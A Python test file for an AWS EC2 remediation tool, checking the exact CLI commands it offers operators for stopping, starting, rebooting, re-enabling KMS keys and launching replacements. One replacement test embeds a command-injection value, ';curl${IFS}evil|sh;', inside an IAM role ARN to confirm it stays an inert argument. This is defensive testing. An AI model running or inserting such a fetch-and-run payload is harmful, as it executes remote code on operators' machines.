"""The commands a person is given are commands that exist, for this instance and no other."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from lifeguard.core.decision.runbook import Remedy
from lifeguard.core.kinds.ec2.instance import PublicIpKind
from lifeguard.core.kinds.ec2.launch_spec import LaunchSpec, ReplacementPlan
from lifeguard.core.kinds.ec2.locked_key import LockedKey
from lifeguard.core.kinds.ec2.preflight import preflight
from lifeguard.core.kinds.ec2.remediation.manual_commands import (
    back,
    by_hand,
    commands,
    force_stop,
    replacement,
    start_by_hand,
)
from lifeguard.core.text.command import Command
from lifeguard.core.text.message import message
from tests.support.situations import ACT, INSTANCE, RESOURCE, instance

WHERE = f"--region us-east-1 --instance-ids {INSTANCE}"
LOOK = f"aws ec2 describe-instance-status --include-all-instances {WHERE}"
STOP = f"aws ec2 stop-instances {WHERE}"
FORCE = f"aws ec2 stop-instances --force {WHERE}"
STOPPED = f"aws ec2 wait instance-stopped {WHERE}"
RUNNING = f"aws ec2 wait instance-running {WHERE}"
START = f"aws ec2 start-instances {WHERE}"
REBOOT = f"aws ec2 reboot-instances {WHERE}"
MODIFY = f"aws ec2 modify-instance-attribute --region us-east-1 --instance-id {INSTANCE}"
UNPROTECT, PROTECT = f"{MODIFY} --no-disable-api-stop", f"{MODIFY} --disable-api-stop"
ENABLE = "aws kms enable-key --region us-east-1 --key-id k-1"
KEEP = "aws kms cancel-key-deletion --region us-east-1 --key-id k-1"
POLICY = (
    "aws kms get-key-policy --region us-east-1 --key-id k-1 --policy-name default --output text"
)
HOSTS = "aws ec2 describe-hosts --region us-east-1 --filter Name=state,Values=available"
MOVE = (
    f"aws ec2 modify-instance-placement --region us-east-1 --instance-id {INSTANCE} "
    "--host-id OTHER-HOST"
)
KEY = LockedKey(message("key.state", key="k-1", state="Disabled"), "k-1", "Disabled")


def joined(found: tuple[Command, ...]) -> list[str]:
    return [" ".join(command) for command in found]


@pytest.mark.parametrize(
    ("remedy", "expected"),
    [
        (Remedy.STOP_START, [STOP, STOPPED, START, LOOK]),
        (Remedy.REBOOT, [REBOOT, LOOK]),
        (Remedy.START, [START, LOOK]),
        (Remedy.REPLACE, [LOOK]),
        (None, [LOOK]),
    ],
)
def test_each_remedy_has_its_commands(remedy: Remedy | None, expected: list[str]) -> None:
    assert joined(commands(RESOURCE, remedy)) == expected
    assert joined(by_hand(RESOURCE, remedy, ())) == expected


@pytest.mark.parametrize(
    ("how", "expected"),
    [
        ({"stop_protection": True}, [UNPROTECT, STOP, STOPPED, START, LOOK, PROTECT]),
        ({"public_ip": PublicIpKind.AUTO}, [STOP, STOPPED, START, LOOK]),
        ({"tenancy": "host"}, [HOSTS, STOP, STOPPED, MOVE, START, LOOK]),
        ({"locked_keys": (KEY,)}, [ENABLE]),
        ({"locked_keys": (KEY,), "stop_protection": True}, [ENABLE]),
        ({"locked_keys": (replace(KEY, state="PendingDeletion"),)}, [KEEP, ENABLE]),
        ({"locked_keys": (replace(KEY, state="Enabled"),)}, [POLICY]),
        ({"locked_keys": (replace(KEY, state="Unavailable"),)}, [POLICY]),
        ({"locked_keys": (replace(KEY, state=""),)}, [LOOK]),
        ({"locked_keys": (replace(KEY, key=""),)}, [LOOK]),
        ({"group": "web", "stop_protection": True}, [LOOK]),
    ],
)
def test_what_stands_in_the_way_is_removed_first_and_put_back_at_the_end(
    how: dict[str, Any], expected: list[str]
) -> None:
    world = instance(**how)
    obstacles = preflight(world, Remedy.STOP_START, ACT)
    assert joined(by_hand(world.resource, Remedy.STOP_START, obstacles)) == expected


def test_a_start_comes_after_what_its_keys_need() -> None:
    assert joined(start_by_hand(RESOURCE, ())) == [START, LOOK]
    assert joined(start_by_hand(RESOURCE, (KEY,))) == [ENABLE, START, LOOK]


def test_a_forced_stop_is_followed_by_a_start() -> None:
    assert joined(force_stop(RESOURCE)) == [FORCE, STOPPED, START]


def test_the_way_back_gives_the_old_one_its_place_and_its_watch_again() -> None:
    like = LaunchSpec("t3.micro", "us-east-1a", "subnet-1", ("sg-1",), addresses=("e-1",))
    way = joined(back(RESOURCE, ReplacementPlan(like, None), "i-0new"))
    assert way == [
        "aws ec2 stop-instances --region us-east-1 --instance-ids i-0new",
        (
            f"aws ec2 delete-tags --region us-east-1 --resources {INSTANCE} "
            "--tags Key=lifeguard:replaced-by Key=lifeguard:keep-until"
        ),
        START,
        RUNNING,
        (
            "aws ec2 associate-address --region us-east-1 --allocation-id e-1 "
            f"--instance-id {INSTANCE} --allow-reassociation"
        ),
    ]
    assert joined(back(RESOURCE, None, "i-0new")) == way[:-1]


def test_a_replacement_by_hand_is_a_launch_and_its_addresses() -> None:
    like = LaunchSpec("t3.micro", "us-east-1a", "subnet-1", ("sg-1", "sg-2"))
    plain = (
        "aws ec2 run-instances --region us-east-1 --image-id ami-1 --count 1 "
        "--instance-type t3.micro --subnet-id subnet-1 --security-group-ids sg-1 sg-2"
    )
    assert joined(replacement(RESOURCE, ReplacementPlan(like, None), "ami-1")) == [plain]
    role = "arn:aws:iam::1:instance-profile/x;curl${IFS}evil|sh;/x"
    more = replace(like, key="the ops' key", role=role, addresses=("e-1",))
    launch, wait, move = replacement(RESOURCE, ReplacementPlan(more, None), "ami-1")
    assert launch[-4:] == ("--key-name", "the ops' key", "--iam-instance-profile", f"Arn={role}")
    assert joined((wait, move)) == [
        "aws ec2 wait instance-running --region us-east-1 --instance-ids NEW-INSTANCE",
        (
            "aws ec2 associate-address --region us-east-1 --allocation-id e-1 "
            "--instance-id NEW-INSTANCE --allow-reassociation"
        ),
    ]
